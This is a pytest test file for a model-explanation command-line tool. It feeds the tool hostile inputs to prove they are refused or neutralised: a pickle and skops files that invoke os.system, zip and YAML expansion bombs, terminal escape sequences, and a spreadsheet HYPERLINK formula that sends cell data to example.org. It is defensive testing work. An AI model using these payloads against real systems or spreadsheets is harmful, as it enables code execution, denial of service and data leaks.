"""Damaged and hostile inputs: one sentence and exit code 2, never a crash, a flood of text or a formula."""

import json
import os
import pickle
import stat
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import lightgbm
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet
import pytest
import skops.io
import xgboost
from applicants import applicants, decisions
from sklearn.ensemble import RandomForestClassifier

from counterpoint.cli.trial import TrialError, try_to_open

ASK = ["--rows", "refused.csv", "--quiet", "--out", "found.csv"]
NUMBERS = ["age", "amount", "duration"]


@pytest.fixture
def refused(explain, capsys):
    """Run a command that must be refused in one short line; give it."""

    def run(*more: str, **inputs: str) -> str:
        assert explain(*more, **inputs) == 2
        said = capsys.readouterr().err
        assert said.startswith("counterpoint: ")
        assert said.count("\n") == 1
        assert len(said) < 2_000
        assert not Path("found.csv").exists()
        return said

    return run


# ---------------------------------------------------------------- models that crash their readers


@pytest.fixture(scope="module")
def boosters(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("boosters")
    known = applicants(200)
    y = (decisions(known) == "refused").astype(int)
    quiet = {"objective": "binary", "verbose": -1}
    lightgbm.train(quiet, lightgbm.Dataset(known[NUMBERS], y), 5).save_model(folder / "model.txt")
    data = xgboost.DMatrix(known[NUMBERS], y)
    xgboost.train({"objective": "binary:logistic"}, data, 5).save_model(folder / "model.json")
    return folder


@pytest.mark.parametrize("share", [0.1, 0.35, 0.6, 0.9])
def test_a_cut_off_lightgbm_file_is_refused(refused, boosters, share):
    whole = (boosters / "model.txt").read_text()
    Path("cut.txt").write_text(whole[: int(share * len(whole))])
    assert "cut.txt cannot be opened" in refused(*ASK, "--drop", "job,sex", model="cut.txt")


@pytest.mark.parametrize(
    ("field", "values"),
    [
        ("left_child", "0"),
        ("right_child", "999999"),
        ("left_child", "-999999"),
        ("split_feature", "77"),
        ("num_leaves", "2000000000"),
    ],
)
def test_a_lightgbm_tree_that_leads_nowhere_is_refused(refused, boosters, field, values):
    lines = (boosters / "model.txt").read_text().split("\n")
    index = next(i for i, line in enumerate(lines) if line.startswith(f"{field}="))
    old = lines[index].partition("=")[2].split()
    lines[index] = f"{field}={' '.join([values, *old[1:]])}"
    Path("wrong.txt").write_text("\n".join(lines))
    said = refused(*ASK, "--drop", "job,sex", model="wrong.txt")
    assert "wrong.txt cannot be opened" in said
    assert "tree 0" in said


@pytest.mark.parametrize("children", [[0, -1, -1], [10**6, -1, -1], [1, 1, -1]])
def test_an_xgboost_tree_that_leads_nowhere_is_refused(refused, boosters, children):
    content = json.loads((boosters / "model.json").read_text())
    tree = content["learner"]["gradient_booster"]["model"]["trees"][0]
    tree["left_children"][: len(children)] = children
    Path("wrong.json").write_text(json.dumps(content))
    assert "wrong.json cannot be opened" in refused(*ASK, "--drop", "job,sex", model="wrong.json")


def test_whole_boosters_pass_the_trial(boosters):
    assert try_to_open(boosters / "model.txt", "lightgbm") == 0
    assert try_to_open(boosters / "model.json", "xgboost") == 0


def test_lightgbm_with_splits_by_category_passes_the_trial(tmp_path):
    known = applicants(300).astype({"job": "category", "sex": "category"})
    options = {"objective": "binary", "verbose": -1, "min_data_per_group": 5, "cat_smooth": 1}
    model = lightgbm.train(options, lightgbm.Dataset(known, (known["job"] == "nurse").astype(int)), 5)
    model.save_model(tmp_path / "model.txt")
    assert "num_cat=0" not in (tmp_path / "model.txt").read_text().partition("Tree=1")[0]
    assert try_to_open(tmp_path / "model.txt", "lightgbm") == 0


def test_a_reader_that_crashes_is_told_from_one_that_refuses(tmp_path, monkeypatch):
    """The trial of a file whose reader dies says so; here the reader is killed by the memory it asks for."""
    path = tmp_path / "model.txt"
    path.write_text("tree\n")
    script = "import os; os.kill(os.getpid(), 11)"
    monkeypatch.setattr("counterpoint.cli.trial.sys.executable", _stand_in(tmp_path, script))
    with pytest.raises(TrialError, match=r"its reader crashed \(SIGSEGV\)"):
        try_to_open(path, "lightgbm")


def test_a_reader_that_takes_too_long_is_stopped(tmp_path, monkeypatch):
    path = tmp_path / "model.txt"
    path.write_text("tree\nslow\n")
    monkeypatch.setattr("counterpoint.cli.trial.SECONDS", 1)
    stand_in = _stand_in(tmp_path, "import time; time.sleep(60)")
    monkeypatch.setattr("counterpoint.cli.trial.sys.executable", stand_in)
    with pytest.raises(TrialError, match="took longer than 1 seconds"):
        try_to_open(path, "lightgbm")


def _stand_in(folder: Path, script: str) -> str:
    """Write a program that stands for a reader."""
    program = folder / "reader"
    program.write_text(f"#!{sys.executable}\n{script}\n")
    program.chmod(0o755)
    return str(program)


def test_a_module_in_the_folder_does_not_run_in_a_trial(refused, boosters):
    Path("lightgbm.py").write_text("open('ran', 'w')")
    Path("cut.txt").write_text("tree")
    refused(*ASK, model="cut.txt")
    assert not Path("ran").exists()


# ---------------------------------------------------------------- tables


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("rows.json", "[{}]", "has 0 columns"),
        ("rows.jsonl", "{}\n{}\n", "has 0 columns"),
        ("rows.json", "[]", "it must hold records"),
        ("rows.json", "[" * 100_000 + "]" * 100_000, "nested too deep"),
        ("rows.json", '[{"age": ' + '{"a":' * 50_000 + "1" + "}" * 50_001 + "]", "nested too deep"),
        ("rows.json", '[{"age": [1, 2], "amount": 3}]', "has [1, 2] in column 'age', row 1"),
        ("rows.json", '[{"age": {"years": 2}}]', "has {'years': 2} in column 'age'"),
        ("rows.json", '[{"age": ' + "9" * 5_000 + "}]", "cannot be read as json"),
    ],
)
def test_json_that_is_no_table(refused, name, content, said):
    Path(name).write_text(content)
    assert said in refused("--rows", name, *ASK[2:])
    assert said in refused(*ASK, data=name)


@pytest.mark.parametrize("kind", [pa.list_(pa.int64()), pa.struct([("a", pa.int64())])])
@pytest.mark.parametrize("ending", ["parquet", "arrow"])
def test_lists_and_records_in_cells_are_refused(refused, kind, ending):
    value = [1] if pa.types.is_list(kind) else {"a": 1}
    table = pa.Table.from_pandas(pd.read_csv("refused.csv"))
    table = table.set_column(0, "age", pa.array([value] * len(table), type=kind))
    _write(table, f"rows.{ending}")
    assert "a cell must be one value" in refused("--rows", f"rows.{ending}", *ASK[2:])


@pytest.mark.parametrize("ending", ["parquet", "arrow"])
def test_damaged_notes_of_pandas_do_not_matter(explain, ending):
    table = pa.Table.from_pandas(pd.read_csv("refused.csv"))
    _write(table.replace_schema_metadata({b"pandas": b'{"index_columns": [{"kind": "x"'}), f"rows.{ending}")
    assert explain("--rows", f"rows.{ending}", *ASK[2:]) == 0


@pytest.mark.parametrize("ending", ["parquet", "arrow"])
def test_flipped_bytes_in_a_table_never_crash(explain, capsys, ending):
    table = pa.Table.from_pandas(pd.read_csv("refused.csv")[:3])
    _write(table, f"rows.{ending}")
    whole, rng = Path(f"rows.{ending}").read_bytes(), np.random.default_rng(0)
    for _ in range(8):
        damaged = bytearray(whole)
        for place in rng.integers(len(whole), size=3):
            damaged[place] ^= int(rng.integers(1, 256))
        Path(f"rows.{ending}").write_bytes(damaged)
        assert explain("--rows", f"rows.{ending}", "--quiet", "-k", "1") in (0, 1, 2)
        assert "Traceback" not in capsys.readouterr().err


def _write(table: pa.Table, name: str) -> None:
    if name.endswith("parquet"):
        pyarrow.parquet.write_table(table, name)
        return
    with pa.ipc.new_file(name, table.schema) as writer:
        writer.write_table(table)


def test_a_table_that_claims_more_than_fits_is_not_read(refused, monkeypatch):
    monkeypatch.setattr("counterpoint.cli.tables.MOST_CELLS", 1_000)
    pd.DataFrame({"age": np.zeros(5_000), "amount": 1.0}).to_parquet("known.parquet")
    assert "5,000 rows of 2 columns" in refused(*ASK, data="known.parquet")


def test_more_columns_than_can_be_handled_are_refused(refused):
    Path("wide.csv").write_text(f"{','.join(f'c{i}' for i in range(10_001))}\n{','.join(['1'] * 10_001)}\n")
    assert "has 10,001 columns; give a table of at least 1 and at most 10,000" in refused(
        *ASK, data="wide.csv"
    )


def test_messages_about_megabytes_stay_short(explain, capsys):
    Path("rows.csv").write_text(f"age,amount,duration,job,sex\n{'9x' * 1_500_000},500,12,clerk,f\n")
    assert explain("--rows", "rows.csv", "--quiet") == 2
    assert len(capsys.readouterr().err) < 5_000


def test_names_of_columns_by_the_thousand_are_cut(refused):
    names = [f"a column with a long name {i}" for i in range(5_000)]
    pd.DataFrame([range(5_000)], columns=names).to_csv("wide.csv", index=False)
    refused("--rows", "wide.csv", *ASK[2:])


# ---------------------------------------------------------------- constraints, options and streams


def test_a_bomb_of_yaml_is_refused_before_it_is_expanded(refused):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 40)]
    Path("limits.yaml").write_text("\n".join(lines) + "\ncolumns: *a39\n")
    assert "more than 200,000 values" in refused(*ASK, "--constraints", "limits.yaml")
    Path("limits.yaml").write_text("columns: &a {age: {range: [*a]}}")
    assert "a part of it holds itself" in refused(*ASK, "--constraints", "limits.yaml")


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("limits.yaml", "columns: " + "[" * 20_000, "nested too deep"),
        ("limits.toml", "columns = " + "[" * 20_000, "nested too deep"),
        ("limits.toml", "[columns.age]\nrange = " + "9" * 6_000, "cannot be read as toml"),
        ("limits.toml", "#" * 4_000_001, "larger than a file of constraints can be"),
        ("limits.toml", f"[columns.age]\nkind = '{'x' * 100_000}'", "must be one of"),
    ],
)
def test_constraints_that_are_too_much(refused, name, content, said):
    Path(name).write_text(content)
    assert said in refused(*ASK, "--constraints", name)


def test_numbers_beyond_bounds_are_refused(refused):
    assert "-k must be at most 1,000, got 1000000000" in refused(*ASK, "-k", "1000000000")
    assert "--part must be at most 1,000,000" in refused(*ASK, "--part", "1000000000")


def test_a_pipe_is_no_file(refused):
    os.mkfifo("pipe.csv")
    assert "a pipe or device, and must be a file" in refused("--rows", "pipe.csv", *ASK[2:])
    assert "a pipe or device, and must be a file" in refused(*ASK, data="pipe.csv")
    os.mkfifo("limits.toml")
    assert "a pipe or device" in refused(*ASK, "--constraints", "limits.toml")
    os.mkfifo("pipe.onnx")
    assert "is not a file" in refused(*ASK, model="pipe.onnx")
    assert "cannot be written: it is no file" in refused("--rows", "refused.csv", "--out", "pipe.csv")


@pytest.mark.parametrize("more", [[], ["--format", "csv", "--report", "found.html"]])
def test_a_closed_standard_output_is_no_fault(here, more):
    command = [sys.executable, "-m", "counterpoint.cli", "explain", "--model", "model.skops"]
    command += ["--data", "known.csv", "--target", "decision", "--rows", "refused.csv", "--quiet", *more]
    done = subprocess.run(
        ["/bin/sh", "-c", 'exec "$@" >&-', "sh", *command], stderr=subprocess.PIPE, text=True, timeout=100
    )
    assert (done.returncode, done.stderr) == (141, "")
    assert not more or "</html>" in Path("found.html").read_text()


# ---------------------------------------------------------------- skops


class Command:
    def __reduce__(self):
        return (os.system, ("touch ran",))


def _skops_of(name: str, path: str = "evil.skops") -> None:
    """Write a skops file that asks for a function or type by name."""
    module, _, last = name.rpartition(".")
    node = {
        "__class__": last,
        "__module__": module,
        "__loader__": "TypeNode",
        "__id__": 1,
        "content": {"__class__": last, "__module__": module, "__id__": 2},
    }
    skops.io.dump([1], "plain.skops")
    with zipfile.ZipFile("plain.skops") as plain:
        schema = json.loads(plain.read("schema.json"))
    schema["content"] = [*schema["content"], node]
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))


@pytest.mark.parametrize("name", ["os.system", "subprocess.Popen", "builtins.eval", "posix.system"])
def test_programs_are_never_offered_nor_trusted(refused, name):
    _skops_of(name)
    for more in ([], ["--trust", name]):
        said = refused(*ASK, *more, model="evil.skops")
        assert "can run programs" in said
        assert f"--trust {name}" not in said


def test_types_of_unknown_packages_are_not_offered_ready_to_paste(refused):
    _skops_of("helpers.Anything")
    said = refused(*ASK, model="evil.skops")
    assert "helpers.Anything can be anything" in said
    assert "--trust helpers" not in said


def test_a_skops_file_that_unpacks_to_gigabytes_is_refused(refused):
    with zipfile.ZipFile("bomb.skops", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", "{}")
        with archive.open("1.npy", "w", force_zip64=True) as member:
            for _ in range(600):
                member.write(bytes(2**20))
    assert "would need" in refused(*ASK, model="bomb.skops")


def test_an_array_that_claims_gigabytes_is_refused(refused):
    forest = RandomForestClassifier(2).fit([[0.0], [1.0]], [0, 1])
    skops.io.dump(forest, "model2.skops")
    with zipfile.ZipFile("model2.skops") as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in members if name.endswith(".npy"))
    with zipfile.ZipFile("bomb.skops", "w") as archive:
        for each, content in members.items():
            archive.writestr(each, _claiming(10**12) if each == name else content)
    assert "should have 8,000,000,000,000 bytes" in refused(*ASK, model="bomb.skops")


def _claiming(count: int) -> bytes:
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({count},), }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode()


def test_a_description_nested_too_deep_is_refused(refused):
    with zipfile.ZipFile("deep.skops", "w") as archive:
        archive.writestr("schema.json", '{"content":' * 500 + "1" + "}" * 500)
    assert "nested more than 200 deep" in refused(*ASK, model="deep.skops")


def test_pickles_still_do_not_run(refused):
    Path("evil.pkl").write_bytes(pickle.dumps(Command()))
    refused(*ASK, model="evil.pkl")
    Path("evil.skops").write_bytes(pickle.dumps(Command()))
    refused(*ASK, model="evil.skops")
    assert not Path("ran").exists()


# ---------------------------------------------------------------- texts that steer


def test_a_model_cannot_steer_the_terminal(explain, capsys):
    Path("steering.py").write_text(
        "def decide(table):\n    raise ValueError('\\x1b]0;owned\\x07 \\x1b[2J \\u202egnp.exe')\n"
    )
    assert explain("--rows", "refused.csv", model="steering:decide") == 3
    said = capsys.readouterr()
    assert "\\x1b]0;owned" in said.err
    assert not {"\x1b", "\x07", "\u202e"} & set(said.err + said.out)


def test_cells_cannot_steer_the_terminal(explain, capsys):
    for name in ("known.csv", "refused.csv"):
        text = Path(name).read_text().replace("smith", "\x1b[31msmith")
        Path(name).unlink()
        Path(name).write_text(text)
    Path("steering_cells.py").write_text(
        "import numpy as np\ndef decide(t):\n    return np.where(t['job'] == 'nurse', 'a', 'b')\n"
    )
    assert explain("--rows", "refused.csv", "--quiet", model="steering_cells:decide") in (0, 1)
    said = capsys.readouterr().out
    assert "[31msmith" in said
    assert "\x1b" not in said


FORMULA = '=HYPERLINK("http://example.org?"&A1)'


@pytest.fixture
def formulas(here):
    """Put formulas into the tables' texts."""
    for name in ("known.csv", "refused.csv"):
        table = pd.read_csv(name)
        Path(name).unlink()
        table["job"] = table["job"].map({"clerk": FORMULA, "smith": "-1", "nurse": "@SUM(A1)"})
        table.rename(columns={"sex": "+sex"}).to_csv(name, index=False)
    Path("by_amount.py").write_text(
        "import numpy as np\ndef decide(t):\n    return np.where(t['amount'] > 4000, 'no', 'yes')\n"
    )


def test_formulas_are_quoted_in_csv_and_nowhere_else(explain, formulas, capsys):
    found = {}
    for name, more in {"a.csv": [], "raw.csv": ["--raw"], "a.parquet": []}.items():
        assert (
            explain("--rows", "refused.csv", "--quiet", "--out", name, *more, model="by_amount:decide") == 0
        )
        found[name] = pd.read_parquet(name) if name.endswith("parquet") else pd.read_csv(name, dtype=str)
    assert set(found["a.csv"]["job"]) == {f"'{FORMULA}", "-1", "'@SUM(A1)"}
    assert "'+sex" in found["a.csv"]
    assert set(found["raw.csv"]["job"]) == set(found["a.parquet"]["job"]) == {FORMULA, "-1", "@SUM(A1)"}
    capsys.readouterr()
    assert explain("--rows", "refused.csv", "--quiet", "--out", "-", model="by_amount:decide") == 0
    assert f",'{FORMULA[:5]}" in capsys.readouterr().out.replace('"', "")


def test_formulas_are_quoted_in_the_list_of_skipped_rows(explain, here):
    table = pd.read_csv("refused.csv").assign(job=lambda each: each["job"].where(each.index != 1, FORMULA))
    table.to_csv("bad.csv", index=False)
    assert explain("--rows", "bad.csv", "--quiet", "--out", "a.csv", "--skipped", "skipped.csv") == 4
    assert pd.read_csv("skipped.csv")["value"].tolist() == [f"'{FORMULA}"]


# ---------------------------------------------------------------- files that are replaced


def test_a_replaced_file_keeps_its_mode(explain):
    Path("found.csv").touch()
    Path("found.csv").chmod(0o640)
    assert explain(*ASK) == 0
    assert stat.S_IMODE(Path("found.csv").stat().st_mode) == 0o640
    assert Path("found.csv").stat().st_size


def test_a_new_file_has_the_mode_that_files_have_here(explain):
    assert explain(*ASK) == 0
    Path("other").touch()
    assert Path("found.csv").stat().st_mode == Path("other").stat().st_mode


@pytest.mark.parametrize("name", ["found.csv", "found.html"])
def test_a_read_only_file_is_not_replaced(explain, capsys, name):
    Path(name).write_text("mine")
    Path(name).chmod(0o444)
    option = "--report" if name.endswith("html") else "--out"
    assert explain("--rows", "refused.csv", "--quiet", option, name) == 2
    assert f"{name} cannot be replaced: it is read-only" in capsys.readouterr().err
    assert Path(name).read_text() == "mine"


def test_a_link_to_a_read_only_file_is_no_way_round(explain):
    Path("kept").write_text("mine")
    Path("kept").chmod(0o444)
    Path("found.csv").symlink_to("kept")
    assert explain(*ASK) == 2
    assert Path("kept").read_text() == "mine"


def test_a_link_in_a_circle_is_refused(explain, capsys):
    Path("found.csv").symlink_to("found.csv")
    assert explain(*ASK) == 2
    assert "Traceback" not in capsys.readouterr().err


# ---------------------------------------------------------------- identifiers


@pytest.fixture
def identified(here):
    """Make known rows that differ in their identifier only, so that an answer must be one of them."""
    known = pd.concat([pd.read_csv("known.csv")[:1]] * 60, ignore_index=True).drop(columns="decision")
    known["name"] = [f"person {i}" for i in known.index]
    known.to_csv("named.csv", index=False)
    known[::20].to_csv("few.csv", index=False)
    Path("named.py").write_text(
        "import numpy as np\n"
        "def decide(t):\n    return np.where(t['name'].str.endswith('7'), 'granted', 'refused')\n"
    )


def test_answers_that_are_known_rows_with_their_identifier_are_warned_about(explain, identified, capsys):
    assert explain("--rows", "few.csv", "-k", "2", model="named:decide", data="named.csv", target="") in (
        0,
        1,
    )
    said = capsys.readouterr().err
    assert "6 answers are known rows in full, and 'name' looks like an identifier" in said
    assert "--drop" in said


def test_no_warning_without_an_identifier(explain, capsys):
    assert explain("--rows", "refused.csv", "--setting", "plausible") in (0, 1)
    assert "identifier" not in capsys.readouterr().err


def test_threads_do_not_share_the_trial(boosters):
    """Two runs in one process may try the same file at once."""
    found: list[int] = []
    threads = [
        threading.Thread(target=lambda: found.append(try_to_open(boosters / "model.txt", "lightgbm")))
        for _ in range(2)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert found == [0, 0]
